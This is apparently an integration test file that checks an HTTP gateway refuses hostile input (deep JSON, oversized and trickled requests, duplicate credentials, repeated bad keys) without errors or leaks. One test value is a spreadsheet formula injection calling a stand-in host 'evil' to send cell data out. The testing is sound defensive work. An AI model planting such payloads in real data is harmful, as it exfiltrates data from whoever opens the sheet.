"""The HTTP edge refuses hostile and careless input with a problem, never a 500, and
leaks no identifier or key into answers or logs (issue #12, items 2, 3, 5 and 7).

A real gateway with its audit index on a real port and the real broker; raw sockets
where an HTTP client would correct the request for us.
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
import logging
import time
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import pytest
import structlog

from gateway.http_hardening import SERVER_NAME
from tests.integration.audit.support import audited_gateway
from tests.integration.conftest import free_port
from tests.integration.gateway.support import RunningGateway, http

VICTIM = "91052777D"


@pytest.fixture
async def edge(
    kafka_bootstrap: str, tmp_path: Path, unique_name: Callable[[str], str]
) -> AsyncIterator[tuple[RunningGateway, dict[str, str]]]:
    async with audited_gateway(
        kafka_bootstrap,
        tmp_path,
        unique_name,
        http={"host": "127.0.0.1", "port": free_port(), "auth_failures_per_minute": 10},
    ) as (gw, extra, _parts):
        yield gw, extra


def _cursor(document: str) -> str:
    return base64.urlsafe_b64encode(document.encode()).decode().rstrip("=")


async def _raw(
    port: int, request: bytes, *, timeout_s: float = 10.0, until_close: bool = False
) -> bytes:
    """Send raw bytes, read the answer's head (or, ``until_close``, all until the server
    closes) within ``timeout_s``."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(request)
        await writer.drain()
        chunks: list[bytes] = []
        async with asyncio.timeout(timeout_s):
            while chunk := await reader.read(65536):
                chunks.append(chunk)
                if not until_close and b"\r\n\r\n" in b"".join(chunks):
                    break
        return b"".join(chunks)
    finally:
        writer.close()


async def test_audit_queries_that_used_to_answer_500_are_400s_with_pointers(
    edge: tuple[RunningGateway, dict[str, str]],
) -> None:
    """A wrong check letter, cursors out of range, times that overflow in UTC and an index
    past BIGINT: each a 400 problem pointing at its parameter, the identifier never echoed."""
    gw, extra = edge
    auditor = {"Authorization": f"Bearer {extra['auditor']}"}
    float_cursor = _cursor('{"a":1e23}')
    long_cursor = _cursor('{"a":' + "9" * 30 + "}")
    cases = {
        "subject=91052777A": "/subject",
        f"cursor={float_cursor}": "/cursor",
        f"cursor={long_cursor}": "/cursor",
        "since=9999-12-31T23:59:59-23:59": "/since",
        "until=0001-01-01T00:00:00%2B14:00": "/until",
        "from_index=9999999999999999999": "/from_index",
        "subject=": "/subject",  # was ignored: a search of everyone
    }
    for query, pointer in cases.items():
        status, headers, problem = await http(
            "GET", f"{gw.base_url}/v1/audit/events?{query}", headers=auditor
        )
        assert status == 400, (query, problem)
        assert headers["Content-Type"].startswith("application/problem+json")
        assert [e["pointer"] for e in problem["errors"]] == [pointer], query
        assert "91052777" not in json.dumps(problem)
    # The parameter missing is the one named (``to`` was reported as ``from``).
    for query, pointers in (("from=1", ["/to"]), ("to=1", ["/from"]), ("", ["/from", "/to"])):
        status, _, problem = await http(
            "GET", f"{gw.base_url}/v1/audit/consistency?{query}", headers=auditor
        )
        assert status == 400, (query, problem)
        assert [e["pointer"] for e in problem["errors"]] == pointers, query


async def test_the_citizens_accesses_take_the_identifier_in_the_body(
    edge: tuple[RunningGateway, dict[str, str]],
) -> None:
    """POST /v1/subjects/accesses answers; a bad identifier or cursor is a 400 that never
    echoes it; the old URL form answers 410 naming the POST, without the identifier."""
    gw, extra = edge
    portal = {"Authorization": f"Bearer {extra['portal']}"}
    url = f"{gw.base_url}/v1/subjects/accesses"
    status, _, answer = await http("POST", url, headers=portal, json={"subject": VICTIM})
    assert (status, answer) == (200, {"accesses": [], "next_cursor": None})
    status, _, problem = await http("POST", url, headers=portal, json={"subject": "91052777A"})
    assert (status, problem["errors"][0]["pointer"]) == (400, "/subject")
    assert "91052777" not in json.dumps(problem)
    huge = _cursor('{"a":' + "9" * 40 + "}")
    status, _, problem = await http(
        "POST", url, headers=portal, json={"subject": VICTIM, "cursor": huge}
    )
    assert (status, problem["errors"][0]["pointer"]) == (400, "/cursor")
    status, _, gone = await http(
        "GET", f"{gw.base_url}/v1/subjects/{VICTIM}/accesses", headers=portal
    )
    assert (status, gone["code"]) == (410, "GONE")
    assert VICTIM not in json.dumps(gone)
    assert "/v1/subjects/accesses" in gone["detail"]


async def test_deep_json_and_a_formula_official_are_refused_plainly(
    edge: tuple[RunningGateway, dict[str, str]],
) -> None:
    """JSON nested 1,000 deep: 400 without interpreter internals. An ``official`` that a
    spreadsheet would run as a formula, or that carries a national id: 400 at /official."""
    gw, _ = edge
    deep = ('{"a":' * 1000) + "1" + ("}" * 1000)
    status, _, problem = await http(
        "POST",
        f"{gw.base_url}/v1/exchanges",
        headers={**gw.headers(), "Content-Type": "application/json"},
        data=deep,
    )
    assert status == 400, problem
    assert "recursion" not in json.dumps(problem).lower()
    assert "nests deeper" in problem["detail"]
    for official in ('=HYPERLINK("http://evil/"&A1,"x")', "DNI 12345678Z", "12345678Z"):
        status, _, problem = await http(
            "POST",
            f"{gw.base_url}/v1/exchanges",
            headers=gw.headers(),
            json=gw.body(official=official),
        )
        assert status == 400, (official, problem)
        assert [e["pointer"] for e in problem["errors"]] == ["/official"]
        assert "12345678" not in json.dumps(problem)


async def test_repeated_credentials_parameters_and_banner_and_caching(
    edge: tuple[RunningGateway, dict[str, str]],
) -> None:
    """Two Authorization headers (an auditor's and a town's), two Idempotency-Keys or a
    repeated query parameter: 400. Every answer: no aiohttp banner, Cache-Control no-store."""
    gw, extra = edge
    port = int(gw.base_url.rsplit(":", 1)[1])
    two_keys = (
        f"GET /v1/audit/events HTTP/1.1\r\nHost: x\r\n"
        f"Authorization: Bearer {extra['auditor']}\r\nAuthorization: Bearer {gw.api_key}\r\n"
        "Connection: close\r\n\r\n"
    ).encode()
    answer = await _raw(port, two_keys)
    assert answer.startswith(b"HTTP/1.1 400"), answer[:200]
    body = json.dumps(gw.body("FOUND-2")).encode()
    two_idempotency = (
        f"POST /v1/exchanges HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {gw.api_key}\r\n"
        "Idempotency-Key: a\r\nIdempotency-Key: b\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body
    answer = await _raw(port, two_idempotency)
    assert answer.startswith(b"HTTP/1.1 400"), answer[:200]
    status, headers, problem = await http(
        "GET",
        f"{gw.base_url}/v1/audit/events?requester=a&requester=b",
        headers={"Authorization": f"Bearer {extra['auditor']}"},
    )
    assert (status, problem["errors"][0]["pointer"]) == (400, "/requester")
    assert headers["Server"] == SERVER_NAME
    assert headers["Cache-Control"] == "no-store"
    _, headers, _ = await http("GET", f"{gw.base_url}/healthz")
    assert "aiohttp" not in headers.get("Server", "").lower()


async def test_an_announced_huge_body_is_refused_at_once(
    edge: tuple[RunningGateway, dict[str, str]],
) -> None:
    """Content-Length: 999999999 with a tiny body: 413 at once, not a wait for the rest."""
    gw, _ = edge
    port = int(gw.base_url.rsplit(":", 1)[1])
    started = time.monotonic()
    answer = await _raw(
        port,
        (
            f"POST /v1/exchanges HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {gw.api_key}\r\n"
            "Content-Type: application/json\r\nContent-Length: 999999999\r\n\r\n{}"
        ).encode(),
        timeout_s=5.0,
    )
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert time.monotonic() - started < 3.0


async def test_undecodable_credentials_and_bodies_are_problems_not_500s(
    edge: tuple[RunningGateway, dict[str, str]],
) -> None:
    """Bytes that are not UTF-8 in the API key: 401. A gzip body that does not inflate:
    400; a coding aiohttp would pass through as plain (``zzz``): 415. A client that closes
    mid-body: counted 499, never 500. Each of these was a 500 any client could cause."""
    gw, _ = edge
    port = int(gw.base_url.rsplit(":", 1)[1])
    answer = await _raw(
        port, b"GET /v1/services HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer \xff\xfe\r\n\r\n"
    )
    assert answer.startswith(b"HTTP/1.1 401"), answer[:200]
    auth = {"Authorization": f"Bearer {gw.api_key}", "Content-Type": "application/json"}
    body = json.dumps(gw.body("FOUND-3")).encode()
    for coding, payload, expected in (
        ("gzip", b"not gzip", (400, "INVALID_REQUEST")),
        ("deflate", b"xx", (400, "INVALID_REQUEST")),
        ("zzz", body, (415, "UNSUPPORTED_MEDIA_TYPE")),
        ("gzip, zzz", body, (415, "UNSUPPORTED_MEDIA_TYPE")),
    ):
        status, _, problem = await http(
            "POST",
            f"{gw.base_url}/v1/exchanges",
            headers={**auth, "Content-Encoding": coding},
            data=payload,
        )
        assert (status, problem["code"]) == expected, (coding, problem)
    status, _, _ = await http(
        "POST",
        f"{gw.base_url}/v1/exchanges",
        headers={**auth, "Content-Encoding": "gzip"},
        data=gzip.compress(body),
    )
    assert status in (200, 202), status  # a body that does inflate is read as before

    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(
        f"POST /v1/exchanges HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {gw.api_key}\r\n"
        "Content-Type: application/json\r\nContent-Length: 5000\r\n\r\n{".encode()
    )
    await writer.drain()
    writer.write_eof()
    async with asyncio.timeout(15):
        await reader.read()
    writer.close()
    deadline = time.monotonic() + 15
    while True:
        _, _, text = await http("GET", f"{gw.base_url}/metrics")
        counted = [
            line
            for line in str(text).splitlines()
            if line.startswith("interop_gateway_http_requests_total") and '/v1/exchanges"' in line
        ]
        if any('status="499"' in line for line in counted):
            break
        assert time.monotonic() < deadline, counted
        await asyncio.sleep(0.2)
    assert not [line for line in counted if 'status="500"' in line], counted


async def test_failed_authentications_are_throttled_per_address(
    edge: tuple[RunningGateway, dict[str, str]],
) -> None:
    """Ten unknown keys answer 401; then each failing key from the address gets 429 with
    Retry-After until its window passes, while a good key from the same address (another
    member behind the same NAT) is still served: it was locked out too."""
    gw, _ = edge
    statuses = []
    for attempt in range(12):
        status, headers, _ = await http(
            "GET",
            f"{gw.base_url}/v1/services",
            headers={"Authorization": f"Bearer guess-{attempt}"},
        )
        statuses.append(status)
    assert statuses[:10] == [401] * 10
    assert statuses[10:] == [429, 429]
    status, headers, problem = await http(
        "GET", f"{gw.base_url}/v1/services", headers={"Authorization": "Bearer guess-12"}
    )
    assert (status, problem["code"]) == (429, "RATE_LIMITED")
    assert int(headers["Retry-After"]) >= 1
    status, _, _ = await http("GET", f"{gw.base_url}/v1/services", headers=gw.headers())
    assert status == 200


async def test_no_identifier_or_key_reaches_the_logs(
    edge: tuple[RunningGateway, dict[str, str]], caplog: pytest.LogCaptureFixture
) -> None:
    """An unauthenticated request with a DNI in its path, an 8 KB+ header after a Bearer
    key and a long URL holding a DNI: neither the key nor the identifier is logged."""
    gw, _ = edge
    port = int(gw.base_url.rsplit(":", 1)[1])
    secret = "sk-live-" + "Q" * 24
    caplog.set_level(logging.DEBUG)
    with structlog.testing.capture_logs() as events:
        status, _, problem = await http("GET", f"{gw.base_url}/v1/subjects/{VICTIM}/accesses")
        assert status == 401
        await _raw(
            port,
            (
                f"GET /v1/services HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {secret}"
                + "A" * 9000
                + "\r\n\r\n"
            ).encode(),
        )
        await _raw(port, f"GET /v1/x/{VICTIM}{'B' * 9000} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    text = json.dumps(events, default=str) + "\n".join(
        f"{r.getMessage()} {r.exc_text or ''} {r.__dict__}" for r in caplog.records
    )
    assert events, "the unauthenticated request is logged"
    assert secret not in text
    assert "QQQQQQQQ" not in text
    assert VICTIM not in text
    assert VICTIM not in json.dumps(problem)


async def test_a_request_aiohttp_cannot_parse_is_a_problem_without_quotes(
    edge: tuple[RunningGateway, dict[str, str]],
) -> None:
    """A header over the limit: a 4xx RFC 9457 problem (MALFORMED_HTTP) that quotes
    nothing of the request, not aiohttp's text/plain with the header's start."""
    gw, _ = edge
    port = int(gw.base_url.rsplit(":", 1)[1])
    secret = "sk-live-" + "Z" * 24
    answer = await _raw(
        port,
        (
            f"GET /v1/services HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {secret}"
            + "A" * 9000
            + "\r\n\r\n"
        ).encode(),
        until_close=True,  # the problem closes the connection
    )
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.split(b" ")[1].startswith(b"4"), head
    assert b"application/problem+json" in head
    problem = json.loads(body)
    assert problem["code"] == "MALFORMED_HTTP"
    assert problem["detail"] == "the request line or a header is longer than 8190 bytes"
    assert secret.encode() not in answer


async def test_slow_clients_are_cut_after_the_header_timeout(
    kafka_bootstrap: str, tmp_path: Path, unique_name: Callable[[str], str]
) -> None:
    """Twenty connections trickling a request head: all closed by the server after the
    header timeout (10 s by default), while a normal request is still served."""
    async with audited_gateway(kafka_bootstrap, tmp_path, unique_name) as (gw, _, _parts):
        port = int(gw.base_url.rsplit(":", 1)[1])
        app_runner_timeout = 10.0  # gateway_runner's default header timeout
        connections = [await asyncio.open_connection("127.0.0.1", port) for _ in range(20)]
        started = time.monotonic()
        for _, writer in connections:
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")  # never finished
        closed = 0
        for reader, writer in connections:
            async with asyncio.timeout(app_runner_timeout + 5):
                closed += (await reader.read()) == b""  # EOF: the server closed it
            writer.close()
        assert closed == 20
        assert time.monotonic() - started < app_runner_timeout + 5
        status, _, _ = await http("GET", f"{gw.base_url}/healthz")
        assert status == 200


async def test_a_trickled_body_is_refused_after_the_body_timeout(
    edge: tuple[RunningGateway, dict[str, str]],
) -> None:
    """A complete head announcing 100 bytes, then one byte and silence: a 400 problem once
    the 10 s body timeout passes, not a worker held for good."""
    gw, _ = edge
    port = int(gw.base_url.rsplit(":", 1)[1])
    started = time.monotonic()
    answer = await _raw(
        port,
        (
            f"POST /v1/exchanges HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {gw.api_key}\r\n"
            "Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{"
        ).encode(),
        timeout_s=20.0,
    )
    assert answer.startswith(b"HTTP/1.1 400"), answer[:200]
    assert b"did not arrive within" in answer or b"application/problem+json" in answer
    assert 9.0 < time.monotonic() - started < 18.0
